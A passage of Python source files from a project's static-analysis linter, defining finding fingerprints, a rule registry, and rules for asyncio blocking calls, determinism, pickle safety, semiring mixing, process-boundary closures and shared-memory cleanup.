        baseline = Baseline.load(args.baseline)
    elif args.check_baseline:
        print(f"FAIL: baseline {args.baseline} not found (run --write-baseline)")
        return 2
    else:
        baseline = Baseline.empty()
    diff = baseline.diff(result.findings)

    if args.output_format == "json":
        payload = {
            "new": [f.to_dict() for f in diff.new],
            "known": [f.to_dict() for f in diff.known],
            "stale": diff.stale,
            "stats": result.stats(),
        }
        print(json.dumps(payload, indent=2, sort_keys=True))
    else:
        _text_report(result, diff, args.stats)
    return 1 if diff.new else 0


def findings_for_paths(paths: Sequence[str]) -> List[Finding]:
    """Convenience for tests: active findings with default rules."""
    return scan_paths(paths, root=os.getcwd()).findings
