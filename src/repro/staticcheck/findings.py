"""Finding records emitted by staticcheck rules.

A :class:`Finding` pins one invariant violation to a ``file:line``
location.  Findings are identified across runs by a *fingerprint* that
deliberately excludes the line number: baselines survive unrelated
edits that shift code up or down, and a finding only reads as "new"
when its rule, file, enclosing symbol, or message actually changes.
Equal findings in the same (rule, file, symbol, message) bucket are
disambiguated by a stable occurrence index.
"""

from __future__ import annotations

import dataclasses
import hashlib
from typing import Dict, Iterable, List, Tuple

#: Severity levels, most severe first.  ``error`` findings are
#: invariant violations; ``warning`` findings are discipline smells.
SEVERITIES: Tuple[str, ...] = ("error", "warning")


@dataclasses.dataclass(frozen=True)
class Finding:
    """One rule violation at a concrete source location."""

    rule: str
    severity: str
    path: str  # repo-relative, forward slashes
    line: int
    col: int
    message: str
    #: Dotted enclosing symbol (``Class.method`` or function name),
    #: empty at module level.  Part of the fingerprint.
    symbol: str = ""

    def __post_init__(self) -> None:
        if self.severity not in SEVERITIES:
            raise ValueError(f"unknown severity {self.severity!r}")

    @property
    def location(self) -> str:
        return f"{self.path}:{self.line}:{self.col}"

    def sort_key(self) -> Tuple[str, int, int, str, str]:
        return (self.path, self.line, self.col, self.rule, self.message)

    def bucket(self) -> Tuple[str, str, str, str]:
        """Fingerprint bucket: everything except the line/col."""
        return (self.rule, self.path, self.symbol, self.message)

    def to_dict(self) -> dict:
        return dataclasses.asdict(self)

    @classmethod
    def from_dict(cls, payload: dict) -> "Finding":
        return cls(
            rule=str(payload["rule"]),
            severity=str(payload["severity"]),
            path=str(payload["path"]),
            line=int(payload["line"]),
            col=int(payload.get("col", 0)),
            message=str(payload["message"]),
            symbol=str(payload.get("symbol", "")),
        )


def _bucket_hash(bucket: Tuple[str, str, str, str]) -> str:
    digest = hashlib.sha256("|".join(bucket).encode("utf-8")).hexdigest()
    return digest[:16]


def fingerprint_findings(findings: Iterable[Finding]) -> List[Tuple[Finding, str]]:
    """Pair each finding with its stable fingerprint.

    Findings are processed in source order (path, line, col) so the
    occurrence index of duplicates within one bucket is deterministic:
    the k-th identical finding in a file is ``<hash>#k`` in every run.
    """
    ordered = sorted(findings, key=Finding.sort_key)
    seen: Dict[Tuple[str, str, str, str], int] = {}
    out: List[Tuple[Finding, str]] = []
    for finding in ordered:
        bucket = finding.bucket()
        occurrence = seen.get(bucket, 0)
        seen[bucket] = occurrence + 1
        out.append((finding, f"{_bucket_hash(bucket)}#{occurrence}"))
    return out
