"""Rule base class and registry.

A rule is a stateless object with an ``id``, a default ``severity``, a
one-line ``description`` (the catalogue entry), optional ``paths``
scoping, and a ``check(module)`` generator yielding
:class:`~repro.staticcheck.findings.Finding` records.

Path scoping matches *path fragments* (``core/``, ``service/``) as
substrings of the forward-slash relative path rather than absolute
anchors, so the same rule fires on ``src/repro/core/streaming.py`` in
the real tree and on ``<tmp>/core/snippet.py`` in the fixture suite.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from .findings import Finding
from .walker import ModuleModel


class Rule:
    """Base class for staticcheck rules; subclass and register."""

    id: str = ""
    severity: str = "error"
    description: str = ""
    #: Path fragments this rule is scoped to; empty = every file.
    paths: Tuple[str, ...] = ()

    def applies_to(self, relpath: str) -> bool:
        if not self.paths:
            return True
        normal = relpath.replace("\\", "/")
        return any(fragment in normal for fragment in self.paths)

    def check(self, module: ModuleModel) -> Iterable[Finding]:  # pragma: no cover
        raise NotImplementedError

    # -- convenience -------------------------------------------------------
    def finding(
        self,
        module: ModuleModel,
        node,
        message: str,
        *,
        severity: Optional[str] = None,
    ) -> Finding:
        return Finding(
            rule=self.id,
            severity=severity or self.severity,
            path=module.path,
            line=getattr(node, "lineno", 0),
            col=getattr(node, "col_offset", 0),
            message=message,
            symbol=module.symbol_of(node),
        )


_REGISTRY: Dict[str, Rule] = {}


def register(cls):
    """Class decorator: instantiate and register a rule by its id."""
    instance = cls()
    if not instance.id:
        raise ValueError(f"rule {cls.__name__} has no id")
    if instance.id in _REGISTRY:
        raise ValueError(f"duplicate rule id {instance.id!r}")
    _REGISTRY[instance.id] = instance
    return cls


def all_rules() -> List[Rule]:
    """Every registered rule, importing the bundled rule modules once."""
    from . import rules  # noqa: F401  (import registers the bundled rules)

    return [_REGISTRY[rule_id] for rule_id in sorted(_REGISTRY)]


def get_rule(rule_id: str) -> Rule:
    all_rules()
    return _REGISTRY[rule_id]
