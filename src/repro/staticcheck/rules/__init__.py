"""Bundled staticcheck rules; importing this package registers them."""

from . import (  # noqa: F401
    asyncio_blocking,
    determinism,
    pickle_safety,
    semiring,
    shard_boundary,
    shm_lifecycle,
)
