"""Rule ``asyncio-blocking``: coroutines in ``service/`` must not block.

The always-on service (PR 8) runs one asyncio event loop; a single
blocking call in a coroutine stalls every connection and the consumer's
ack pipeline.  Three classes of violation, scoped to ``service/``:

- **known blocking calls**: ``time.sleep``, synchronous socket
  construction, ``subprocess``/``os.system``, ``select.select``,
  blocking ``open()`` — anywhere in an ``async def`` body;
- **sync I/O method calls** (``sendall``/``recv``/``accept``/
  ``connect``/``makefile``/``read``/``readline``/``write`` on a
  non-awaited receiver): awaited stream calls (``await
  reader.readline()``) are fine, bare ones block;
- **pipeline ownership**: only the consumer coroutine may touch the
  ``TestbedPipeline`` (ack order == stream order depends on it), so any
  ``*.pipeline.<method>()`` / ``*._pipeline.<method>()`` call inside an
  ``async def`` outside :data:`CONSUMER_FUNCTIONS` is flagged — other
  coroutines must enqueue work items instead.

Statements inside nested ``def``s are not treated as part of the
enclosing coroutine body (they run when called, e.g. via
``asyncio.to_thread``); nested coroutines are analysed on their own.
"""

from __future__ import annotations

import ast
import re
from typing import Iterable

from ..findings import Finding
from ..registry import Rule, register
from ..walker import ModuleModel

_BLOCKING_CALLS = {
    "time.sleep",
    "socket.socket",
    "socket.create_connection",
    "socket.getaddrinfo",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "os.system",
    "os.wait",
    "os.waitpid",
    "select.select",
    "urllib.request.urlopen",
    "open",
    "io.open",
}

_BLOCKING_METHOD_TAILS = {
    "sendall", "recv", "recvfrom", "accept", "connect", "makefile",
    "readline", "readlines",
}

#: Coroutines allowed to touch the pipeline: the single consumer that
#: owns it (ack order == stream order is *defined* by this ownership).
CONSUMER_FUNCTIONS = frozenset({"_consume"})

_PIPELINE_CHAIN = re.compile(r"(^|\.)_?pipeline\.[A-Za-z_][A-Za-z0-9_]*$")


@register
class AsyncioBlockingRule(Rule):
    id = "asyncio-blocking"
    severity = "error"
    description = (
        "service coroutines must not call blocking primitives or touch "
        "the pipeline outside the consumer"
    )
    paths = ("service/",)

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        for info in module.functions():
            if not info.is_async:
                continue
            for node in module.function_body_nodes(info.node, skip_nested=True):
                if not isinstance(node, ast.Call):
                    continue
                yield from self._check_call(module, info, node)

    def _check_call(self, module: ModuleModel, info, call: ast.Call):
        name = module.call_name(call)
        if name in _BLOCKING_CALLS:
            yield self.finding(
                module, call,
                f"blocking call {name}() inside coroutine {info.symbol}; "
                "use the asyncio equivalent (asyncio.sleep, streams, "
                "to_thread) or move it into sync consumer code",
            )
            return
        dotted = module.dotted(call.func) or ""
        if _PIPELINE_CHAIN.search(dotted):
            if info.name not in CONSUMER_FUNCTIONS:
                yield self.finding(
                    module, call,
                    f"coroutine {info.symbol} calls {dotted}() directly; "
                    "only the consumer owns the pipeline — enqueue a work "
                    "item instead (ack order == stream order)",
                )
            return
        if (
            isinstance(call.func, ast.Attribute)
            and call.func.attr in _BLOCKING_METHOD_TAILS
            and not isinstance(module.parent_of(call), ast.Await)
        ):
            yield self.finding(
                module, call,
                f"potentially blocking .{call.func.attr}() in coroutine "
                f"{info.symbol} is not awaited; use asyncio streams or "
                "wrap in asyncio.to_thread",
            )
