"""Rule ``determinism``: no hidden entropy on deterministic paths.

Everything under ``core/``, ``testbed/`` and ``fuzz/`` backs a
bit-identity guarantee (the 72-config differential matrix, byte-stable
checkpoints, seeded campaign replay), so three sources of hidden
nondeterminism are banned there:

- **unseeded RNGs** — module-level ``random.*`` samplers (process-
  seeded global state), ``random.Random()``/``numpy.random.default_rng()``
  with no seed, and legacy ``numpy.random.<sampler>`` global-state
  calls;
- **wall-clock reads** — ``time.time``/``time_ns``, ``datetime.now``/
  ``utcnow``, ``date.today``: replay changes results.
  (``time.perf_counter``/``monotonic`` stay legal: they feed timing
  telemetry, which is outside the bit-identity surface.)
- **set-order escapes** — iterating a set (or passing one to
  ``list``/``tuple``/``enumerate``/``join``) lets hash order reach
  outputs; ``PYTHONHASHSEED`` varies it across processes, which is
  exactly how shard workers run.  Wrapping in ``sorted()`` (or any
  order-insensitive reducer: ``min``/``max``/``sum``/``len``/``any``/
  ``all``/``frozenset``/``set``) is the fix; genuinely order-free
  consumers suppress with a justification.

Set tracking is flow-insensitive but module-aware: names assigned
set-valued expressions, attributes assigned sets anywhere in a class,
and zero-argument methods/properties returning sets are all treated as
set-valued at every use site in the same module.
"""

from __future__ import annotations

import ast
from typing import Iterable, Optional, Set

from ..findings import Finding
from ..registry import Rule, register
from ..walker import ModuleModel

_STDLIB_SAMPLERS = {
    "random.random", "random.randint", "random.randrange", "random.choice",
    "random.choices", "random.shuffle", "random.sample", "random.uniform",
    "random.gauss", "random.normalvariate", "random.lognormvariate",
    "random.betavariate", "random.expovariate", "random.gammavariate",
    "random.triangular", "random.vonmisesvariate", "random.paretovariate",
    "random.weibullvariate", "random.getrandbits", "random.randbytes",
    "random.seed",
}

_NUMPY_GLOBAL_SAMPLERS = {
    "numpy.random." + name
    for name in (
        "rand", "randn", "randint", "random", "random_sample", "ranf",
        "sample", "choice", "shuffle", "permutation", "normal", "uniform",
        "poisson", "exponential", "binomial", "beta", "gamma", "standard_normal",
        "seed",
    )
}

_WALL_CLOCK = {
    "time.time": "time.time()",
    "time.time_ns": "time.time_ns()",
    "datetime.datetime.now": "datetime.now()",
    "datetime.datetime.utcnow": "datetime.utcnow()",
    "datetime.date.today": "date.today()",
}

#: Wrappers whose result is order-insensitive (or re-ordered), so a set
#: argument/iterable is fine.
_ORDER_SAFE_WRAPPERS = {
    "sorted", "min", "max", "sum", "len", "any", "all", "set", "frozenset",
}

#: Wrappers that preserve iteration order, so a set argument leaks order.
_ORDER_LEAKING_WRAPPERS = {"list", "tuple", "enumerate", "reversed", "iter"}

_SET_METHODS = {
    "union", "intersection", "difference", "symmetric_difference", "copy",
}


@register
class DeterminismRule(Rule):
    id = "determinism"
    severity = "error"
    description = (
        "no unseeded RNGs, wall-clock reads, or set-iteration order "
        "escapes on deterministic (core/testbed/fuzz) paths"
    )
    paths = ("core/", "testbed/", "fuzz/")

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        set_names = _SetUniverse(module)
        for call in module.iter_calls():
            name = module.call_name(call)
            if name is None:
                continue
            if name in _STDLIB_SAMPLERS:
                yield self.finding(
                    module, call,
                    f"call to {name}() uses the process-seeded global RNG; "
                    "thread a seeded numpy Generator instead",
                )
            elif name in _NUMPY_GLOBAL_SAMPLERS:
                yield self.finding(
                    module, call,
                    f"legacy global-state sampler {name}(); use a seeded "
                    "numpy.random.default_rng(seed) Generator",
                )
            elif name in ("numpy.random.default_rng", "random.Random"):
                if _unseeded(call):
                    yield self.finding(
                        module, call,
                        f"{name}() without a seed argument is entropy-seeded; "
                        "pass an explicit seed",
                    )
            elif name in _WALL_CLOCK:
                yield self.finding(
                    module, call,
                    f"wall-clock read {_WALL_CLOCK[name]} on a deterministic "
                    "path; take the timestamp as an argument "
                    "(perf_counter/monotonic timing telemetry is exempt)",
                )
        yield from self._set_order_escapes(module, set_names)

    # -- set-order escapes -------------------------------------------------
    def _set_order_escapes(self, module: ModuleModel, universe: "_SetUniverse"):
        for node in ast.walk(module.tree):
            iterables = []
            if isinstance(node, (ast.For, ast.AsyncFor)):
                iterables.append(node.iter)
            elif isinstance(node, (ast.ListComp, ast.SetComp, ast.DictComp, ast.GeneratorExp)):
                iterables.extend(gen.iter for gen in node.generators)
            elif isinstance(node, ast.Call):
                name = module.call_name(node)
                tail = name.rsplit(".", 1)[-1] if name else ""
                if tail in _ORDER_LEAKING_WRAPPERS and node.args:
                    iterables.append(node.args[0])
                elif (
                    isinstance(node.func, ast.Attribute)
                    and node.func.attr == "join"
                    and node.args
                ):
                    iterables.append(node.args[0])
            for iterable in iterables:
                if isinstance(node, ast.SetComp) and iterable is node.generators[0].iter:
                    # building another set: order still unobservable
                    continue
                if universe.is_set_valued(iterable):
                    yield self.finding(
                        module, iterable,
                        "iteration over a set exposes hash order "
                        "(PYTHONHASHSEED-dependent across shard workers); "
                        "wrap in sorted() or justify with a suppression",
                    )


def _unseeded(call: ast.Call) -> bool:
    if call.args and not (
        isinstance(call.args[0], ast.Constant) and call.args[0].value is None
    ):
        return False
    for keyword in call.keywords:
        if keyword.arg == "seed" and not (
            isinstance(keyword.value, ast.Constant) and keyword.value.value is None
        ):
            return False
    return True


class _SetUniverse:
    """Module-wide, flow-insensitive knowledge of set-valued names.

    Three layers, all resolved once per module:

    - local/global **names** assigned set-valued expressions (and only
      set-valued expressions: a name that is ever re-bound to a
      non-set expression is dropped, keeping the analysis conservative);
    - **attributes** (``self._watches``-style tails) assigned
      set-valued expressions anywhere in the module;
    - **member tails** of zero-argument methods and properties whose
      returns are set-valued, so ``seq.name_set`` is recognised across
      classes in the same module.
    """

    def __init__(self, module: ModuleModel) -> None:
        self.module = module
        self.names: Set[str] = set()
        self.attr_tails: Set[str] = set()
        self.member_tails: Set[str] = set()
        poisoned: Set[str] = set()
        poisoned_attrs: Set[str] = set()
        for node in ast.walk(module.tree):
            if isinstance(node, (ast.Assign, ast.AnnAssign)):
                value = node.value
                if value is None:
                    continue
                targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                for target in targets:
                    if isinstance(target, ast.Name):
                        if self._is_set_expr(value):
                            self.names.add(target.id)
                        else:
                            poisoned.add(target.id)
                    elif isinstance(target, ast.Attribute):
                        if self._is_set_expr(value):
                            self.attr_tails.add(target.attr)
                        else:
                            poisoned_attrs.add(target.attr)
            elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                if len(node.args.args) <= 1 and not node.args.posonlyargs:
                    for ret in ast.walk(node):
                        if isinstance(ret, ast.Return) and ret.value is not None:
                            if self._is_set_expr(ret.value):
                                self.member_tails.add(node.name)
        self.names -= poisoned
        self.attr_tails -= poisoned_attrs

    def _is_set_expr(self, node: ast.AST) -> bool:
        if isinstance(node, (ast.Set, ast.SetComp)):
            return True
        if isinstance(node, ast.Call):
            name = self.module.call_name(node)
            if name in ("set", "frozenset"):
                return True
            if (
                isinstance(node.func, ast.Attribute)
                and node.func.attr in _SET_METHODS
                and self.is_set_valued(node.func.value)
            ):
                return True
        if isinstance(node, ast.BinOp) and isinstance(
            node.op, (ast.BitAnd, ast.BitOr, ast.Sub, ast.BitXor)
        ):
            return self.is_set_valued(node.left) or self.is_set_valued(node.right)
        if isinstance(node, ast.Name):
            return node.id in self.names
        return False

    def is_set_valued(self, node: ast.AST) -> bool:
        if isinstance(node, ast.Name):
            return node.id in self.names
        if isinstance(node, ast.Attribute):
            return node.attr in self.attr_tails or node.attr in self.member_tails
        return self._is_set_expr(node)
