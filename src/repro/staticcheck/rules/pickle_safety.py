"""Rule ``pickle-safety``: checkpointed classes must pickle clean.

Checkpoint/restore (PR 6) and shard snapshot/migration pickle detector
state: :class:`AttackTagger`, its per-entity tracks/decoders, the
sliding windows, and anything a pool snapshot reaches.  An attribute
holding a lambda, generator, lock, open file, or socket either fails to
pickle outright or — worse — pickles *differently* across runs,
breaking byte-identical checkpoints.

Scope: classes that define ``__getstate__`` (they opted into custom
pickling, so they get audited), plus the known checkpointed classes by
name.  Classes defining ``__reduce__`` are skipped: reduce replaces
attribute pickling wholesale.

An offending attribute is excused when ``__getstate__`` *handles* it,
which is detected by name mention: any string literal equal to the
attribute name anywhere in the ``__getstate__`` body (``state.pop("x")``,
``del state["x"]``, ``state["x"] = None``, slot-filtering comparisons)
counts as handled — a deliberately loose net, because the cost of a
false "handled" is one missed finding while a false "unhandled" would
nag every correct drop-list.
"""

from __future__ import annotations

import ast
from typing import Dict, Iterable, Optional, Set

from ..findings import Finding
from ..registry import Rule, register
from ..walker import ModuleModel

#: Classes whose instances cross pickle boundaries (checkpoint payloads,
#: shard snapshots, worker migration) without defining ``__getstate__``.
CHECKPOINTED_CLASS_NAMES = frozenset(
    {
        "AttackTagger",
        "StreamingDecoder",
        "SlidingProductWindow",
        "EntityTrack",
        "DetectorTemplate",
        "RuleBasedDetector",
        "CriticalAlertDetector",
        "NaiveBayesDetector",
    }
)

_UNPICKLABLE_CALLS = {
    "open": "an open file handle",
    "io.open": "an open file handle",
    "tempfile.TemporaryFile": "an open file handle",
    "tempfile.NamedTemporaryFile": "an open file handle",
    "socket.socket": "a socket",
    "socket.create_connection": "a socket",
    "threading.Lock": "a lock",
    "threading.RLock": "a lock",
    "threading.Condition": "a lock",
    "threading.Event": "a synchronisation primitive",
    "threading.Semaphore": "a synchronisation primitive",
    "threading.BoundedSemaphore": "a synchronisation primitive",
    "multiprocessing.Lock": "a lock",
    "multiprocessing.RLock": "a lock",
    "multiprocessing.Pipe": "a pipe",
    "multiprocessing.Queue": "a queue",
    "multiprocessing.Manager": "a manager proxy",
    "asyncio.Lock": "an event-loop-bound primitive",
    "asyncio.Event": "an event-loop-bound primitive",
    "asyncio.Condition": "an event-loop-bound primitive",
    "asyncio.Queue": "an event-loop-bound primitive",
    "asyncio.get_event_loop": "an event loop",
    "asyncio.new_event_loop": "an event loop",
}

_UNPICKLABLE_METHOD_TAILS = {"makefile": "a socket file object"}


@register
class PickleSafetyRule(Rule):
    id = "pickle-safety"
    severity = "error"
    description = (
        "checkpointed classes must not store lambdas, generators, locks, "
        "sockets, or file handles in attributes __getstate__ does not drop"
    )

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        for node in ast.walk(module.tree):
            if not isinstance(node, ast.ClassDef):
                continue
            methods = _methods_of(node)
            if "__reduce__" in methods or "__reduce_ex__" in methods:
                continue
            getstate = methods.get("__getstate__")
            if getstate is None and node.name not in CHECKPOINTED_CLASS_NAMES:
                continue
            handled = _handled_attrs(getstate)
            yield from self._audit_class(module, node, handled)

    def _audit_class(
        self, module: ModuleModel, cls: ast.ClassDef, handled: Set[str]
    ) -> Iterable[Finding]:
        for method in ast.walk(cls):
            if not isinstance(method, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue
            if module.enclosing_class(method) is not cls:
                continue
            for stmt in ast.walk(method):
                if not isinstance(stmt, (ast.Assign, ast.AnnAssign)):
                    continue
                value = stmt.value
                if value is None:
                    continue
                targets = (
                    stmt.targets if isinstance(stmt, ast.Assign) else [stmt.target]
                )
                for target in targets:
                    attr = _self_attr(target)
                    if attr is None or attr in handled:
                        continue
                    problem = self._problem(module, value)
                    if problem is not None:
                        yield self.finding(
                            module, stmt,
                            f"{cls.name}.{attr} stores {problem}, which does "
                            "not survive pickling; drop it in __getstate__ "
                            "and rebuild lazily, or store picklable state",
                        )

    def _problem(self, module: ModuleModel, value: ast.AST) -> Optional[str]:
        if isinstance(value, ast.Lambda):
            return "a lambda"
        if isinstance(value, ast.GeneratorExp):
            return "a generator"
        if isinstance(value, ast.Call):
            name = module.call_name(value)
            if name in _UNPICKLABLE_CALLS:
                return _UNPICKLABLE_CALLS[name]
            if isinstance(value.func, ast.Attribute):
                tail = value.func.attr
                if tail in _UNPICKLABLE_METHOD_TAILS:
                    return _UNPICKLABLE_METHOD_TAILS[tail]
        return None


def _self_attr(target: ast.AST) -> Optional[str]:
    if (
        isinstance(target, ast.Attribute)
        and isinstance(target.value, ast.Name)
        and target.value.id == "self"
    ):
        return target.attr
    return None


def _methods_of(cls: ast.ClassDef) -> Dict[str, ast.AST]:
    return {
        item.name: item
        for item in cls.body
        if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef))
    }


def _handled_attrs(getstate: Optional[ast.AST]) -> Set[str]:
    """Attribute names ``__getstate__`` mentions as string literals."""
    if getstate is None:
        return set()
    out: Set[str] = set()
    for node in ast.walk(getstate):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            out.add(node.value)
    return out
