"""Rule ``semiring-discipline``: max-plus and log-sum-exp do not mix.

``core/factor_graph.py`` exposes two semiring families — ``maxplus_*``
(Viterbi) and ``logsumexp_*`` (forward) — and the decode kernels
deliberately run both side by side on *disjoint* accumulators
(``stack_max`` vs ``stack_lse``).  The bug this rule rejects is
cross-contamination: feeding one family's result into the other's
accumulator, which type-checks, runs, and silently produces scores
that are neither Viterbi nor forward.

Within one function (unless it declares an explicit ``semiring``
parameter, the documented escape hatch for generic helpers):

- a **nested call** of one family directly inside a call of the other
  (``logsumexp_matmul(maxplus_matmul(a, b), c)``) is flagged;
- an **assignment target that receives both families** (including
  ``x.append(...)``/``extend``/``insert`` feeds and subscripted stores
  like ``acc[i] = ...``) is flagged;
- disciplined dual-track use — both families present, every
  accumulator touched by exactly one family — is *not* flagged.
"""

from __future__ import annotations

import ast
from typing import Dict, Iterable, List, Optional, Set, Tuple

from ..findings import Finding
from ..registry import Rule, register
from ..walker import ModuleModel

MAXPLUS = frozenset(
    {"maxplus_matmul", "maxplus_vecmat", "maxplus_matmul_batch", "maxplus_vecmat_batch"}
)
LOGSUMEXP = frozenset(
    {
        "logsumexp_matmul",
        "logsumexp_vecmat",
        "logsumexp_matmul_batch",
        "logsumexp_vecmat_batch",
    }
)

_FEED_METHODS = {"append", "extend", "insert", "appendleft"}


def _family(module: ModuleModel, call: ast.Call) -> Optional[str]:
    name = module.call_name(call)
    if name is None:
        return None
    tail = name.rsplit(".", 1)[-1]
    if tail in MAXPLUS:
        return "maxplus"
    if tail in LOGSUMEXP:
        return "logsumexp"
    return None


def _families_in(module: ModuleModel, node: ast.AST) -> Set[str]:
    out: Set[str] = set()
    for call in ast.walk(node):
        if isinstance(call, ast.Call):
            family = _family(module, call)
            if family:
                out.add(family)
    return out


def _target_key(module: ModuleModel, node: ast.AST) -> Optional[str]:
    """A stable accumulator key for an assignment target: the dotted
    base with subscripts stripped (``stack_max[i:]`` -> ``stack_max``)."""
    while isinstance(node, ast.Subscript):
        node = node.value
    return module.dotted(node)


@register
class SemiringDisciplineRule(Rule):
    id = "semiring-discipline"
    severity = "error"
    description = (
        "max-plus and log-sum-exp results must not feed the same "
        "accumulator or nest in one expression (declare a `semiring` "
        "parameter for generic helpers)"
    )

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        for info in module.functions():
            if "semiring" in info.params:
                continue
            body_nodes = list(
                module.function_body_nodes(info.node, skip_nested=False)
            )
            calls = [
                (node, _family(module, node))
                for node in body_nodes
                if isinstance(node, ast.Call)
            ]
            families = {family for _, family in calls if family}
            if len(families) < 2:
                continue
            yield from self._nested_mixes(module, info, calls)
            yield from self._contaminated_accumulators(module, info, body_nodes)

    def _nested_mixes(self, module: ModuleModel, info, calls):
        for call, family in calls:
            if family is None:
                continue
            for arg in list(call.args) + [kw.value for kw in call.keywords]:
                inner = _families_in(module, arg)
                if inner and inner != {family}:
                    yield self.finding(
                        module, call,
                        f"{info.symbol} nests a "
                        f"{'log-sum-exp' if family == 'maxplus' else 'max-plus'} "
                        f"result directly inside a {family} call; the two "
                        "semirings compute different quantities",
                    )

    def _contaminated_accumulators(self, module: ModuleModel, info, body_nodes):
        feeds: Dict[str, Set[str]] = {}
        sites: Dict[str, ast.AST] = {}

        def record(key: Optional[str], value: ast.AST, node: ast.AST) -> None:
            if key is None:
                return
            families = _families_in(module, value)
            if not families:
                return
            feeds.setdefault(key, set()).update(families)
            sites.setdefault(key, node)

        for node in body_nodes:
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    record(_target_key(module, target), node.value, node)
            elif isinstance(node, (ast.AnnAssign, ast.AugAssign)):
                if node.value is not None:
                    record(_target_key(module, node.target), node.value, node)
            elif (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in _FEED_METHODS
                and node.args
            ):
                key = _target_key(module, node.func.value)
                for arg in node.args:
                    record(key, arg, node)

        for key, families in sorted(feeds.items()):
            if len(families) > 1:
                yield self.finding(
                    module, sites[key],
                    f"accumulator {key!r} in {info.symbol} receives both "
                    "max-plus and log-sum-exp results; keep one semiring "
                    "per accumulator or take an explicit `semiring` "
                    "parameter",
                )
