"""Rule ``shard-boundary``: nothing closure-shaped crosses a worker pipe.

``ShardedDetectorPool`` pickles its ``detector_factory`` into worker
processes (and ``multiprocessing.Process`` targets cross the same
boundary).  Lambdas, functions nested inside another function, and
local classes either fail to pickle or silently capture parent state
that the worker cannot see — the classic "works with the serial
backend, dies with backend='process'" trap.  The fix is a module-level
factory (``DetectorTemplate`` is the blessed one).

Flagged argument positions:

- ``ShardedDetectorPool(<factory>, ...)`` / ``detector_factory=<...>``;
- ``_ProcessShard(index, <factory>)`` (the internal spawn site);
- ``multiprocessing.Process(target=<...>)``.

An argument is rejected when it is a lambda, a generator expression,
or a name bound inside the enclosing function to a nested ``def``/
``class``/lambda (resolved through the module walker's per-function
binding table — module-level defs are fine, they pickle by reference).
``functools.partial(<bad>, ...)`` is unwrapped one level.
"""

from __future__ import annotations

import ast
from typing import Iterable, List, Optional, Tuple

from ..findings import Finding
from ..registry import Rule, register
from ..walker import FunctionInfo, ModuleModel


@register
class ShardBoundaryRule(Rule):
    id = "shard-boundary"
    severity = "error"
    description = (
        "detector factories and process targets must be module-level "
        "(no lambdas/closures/local classes across worker pipes)"
    )

    def check(self, module: ModuleModel) -> Iterable[Finding]:
        for call in module.iter_calls():
            for value, role in self._boundary_args(module, call):
                reason = self._escape_reason(module, call, value)
                if reason is not None:
                    yield self.finding(
                        module, value,
                        f"{reason} passed as {role} crosses a worker "
                        "process boundary; use a module-level factory "
                        "(e.g. DetectorTemplate)",
                    )

    # -- argument extraction ----------------------------------------------
    def _boundary_args(
        self, module: ModuleModel, call: ast.Call
    ) -> List[Tuple[ast.AST, str]]:
        name = module.call_name(call) or ""
        dotted = module.dotted(call.func) or ""
        out: List[Tuple[ast.AST, str]] = []
        tail = name.rsplit(".", 1)[-1]
        if tail == "ShardedDetectorPool" or dotted.endswith("ShardedDetectorPool"):
            if call.args:
                out.append((call.args[0], "detector_factory"))
        elif tail == "_ProcessShard":
            if len(call.args) >= 2:
                out.append((call.args[1], "a shard factory"))
        elif name in ("multiprocessing.Process", "multiprocessing.context.Process"):
            for keyword in call.keywords:
                if keyword.arg == "target":
                    out.append((keyword.value, "a Process target"))
        for keyword in call.keywords:
            if keyword.arg == "detector_factory":
                out.append((keyword.value, "detector_factory"))
        return out

    # -- escape analysis ---------------------------------------------------
    def _escape_reason(
        self, module: ModuleModel, call: ast.Call, value: ast.AST
    ) -> Optional[str]:
        if isinstance(value, ast.Lambda):
            return "a lambda"
        if isinstance(value, ast.GeneratorExp):
            return "a generator expression"
        if isinstance(value, ast.Call):
            inner_name = module.call_name(value) or ""
            if inner_name.rsplit(".", 1)[-1] == "partial" and value.args:
                return self._escape_reason(module, call, value.args[0])
            return None
        if isinstance(value, ast.Name):
            info = self._enclosing_function(module, call)
            if info is None:
                return None
            bound = info.local_callables.get(value.id)
            if isinstance(bound, ast.Lambda):
                return f"a lambda (bound to {value.id!r})"
            if isinstance(bound, (ast.FunctionDef, ast.AsyncFunctionDef)):
                return f"a function nested in {info.symbol}()"
            if isinstance(bound, ast.ClassDef):
                return f"a class local to {info.symbol}()"
        return None

    def _enclosing_function(
        self, module: ModuleModel, node: ast.AST
    ) -> Optional[FunctionInfo]:
        func = module.enclosing(node, (ast.FunctionDef, ast.AsyncFunctionDef))
        if func is None:
            return None
        for info in module.functions():
            if info.node is func:
                return info
        return None
