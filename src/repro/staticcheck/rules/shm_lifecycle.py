"""Rule ``shm-lifecycle``: shared-memory owners must unlink on close.

A ``multiprocessing.shared_memory.SharedMemory(..., create=True)`` call
allocates a named ``/dev/shm`` segment that outlives the process unless
some owner calls ``unlink()``.  ``close()`` alone only unmaps: a pool
that creates rings and forgets to unlink them on its shutdown path
leaks a segment per shard per run (and earns a resource-tracker warning
at interpreter exit).  The leak-hunting test fixtures catch this
dynamically; this rule catches it at review time, including on paths no
test happens to drive.

Scope: ``testbed/`` (where the ring transport lives).  The unit audited
is the enclosing class (or the whole module for free functions): a
flagged creation is one where no method of that class whose name reads
as a close path -- ``close``/``teardown``/``shutdown``/``unlink``/
``release``/``cleanup``/``__del__``/``__exit__`` -- contains an
``.unlink()`` call.  Attaching by name (no ``create=True``) is the
reader side and is never flagged: readers must *not* unlink.
"""

from __future__ import annotations

import ast
from typing import Iterable, List, Optional

from ..findings import Finding
from ..registry import Rule, register
from ..walker import ModuleModel

#: Method-name fragments that mark an owner-side close path.
_CLOSE_PATH_FRAGMENTS = (
    "close",
    "teardown",
    "shutdown",
    "unlink",
    "release",
    "cleanup",
)
_CLOSE_PATH_EXACT = frozenset({"__del__", "__exit__", "__aexit__"})


def _is_close_path(name: str) -> bool:
